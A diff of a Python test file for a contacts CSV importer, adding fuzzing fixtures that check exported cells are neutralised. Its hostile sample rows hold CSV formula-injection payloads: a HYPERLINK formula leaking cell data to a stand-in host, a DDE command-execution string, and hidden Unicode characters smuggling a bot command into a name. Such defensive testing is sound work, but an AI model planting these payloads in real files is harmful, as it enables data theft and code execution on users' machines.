@@ -78,10 +78,12 @@ PLAIN: dict[str, st.SearchStrategy[str]] = {
     "role": st.sampled_from(["buyer", "-user", "decision_maker", ""]),
     "segment": st.sampled_from(["gold", "", "\tsilver"]),
 }
+# Ids no generated row uses: later examples must not rename these contacts.
 GOOD_BUT_HOSTILE = (
-    "telegram_id,name,account,role,segment\n"
-    '۱۰۰۱,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+Acme,-user,@gold\n'
-    "1002,\u202eSara\u2028Resolve: /resolve 1,=cmd|' /C calc'!A0,\tbuyer,gold\n").encode()
+    "telegram_id,external_id,name,account,role,segment\n"
+    '۹۸۷۶۵۴۳۲۱,,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+Acme,-user,@gold\n'
+    "987654322,,\u202eSara\u2028Resolve: /resolve 1,=cmd|' /C calc'!A0,\tbuyer,gold\n"
+    ",CRM-x-987654,=1+1,@Globex,-buyer,gold\n").encode()
 # UTF-8 mostly, as asked; the others must be refused in one line
 ENCODINGS = ["utf-8"] * 12 + ["utf-8-sig", "utf-16", "utf-16-le", "cp1256", "latin-1"]
 
@@ -320,7 +322,7 @@ async def test_fuzzed_contacts_files_on_sqlite_and_postgres(database: Database,
     print(f"written csv ({dialect}): {len(stored)} contacts, {cells} cells, {neutralised} "
           f"neutralised, {len(formulas)} starting like a formula")
     assert not formulas, formulas[:5]
-    assert neutralised >= 8  # the hostile names of the example, in both files
+    assert neutralised >= 11  # the example's formula-like cells: 8 listed, 3 in the links
 
 
 # --- the command itself: one line per problem, nothing imported -------------------------------
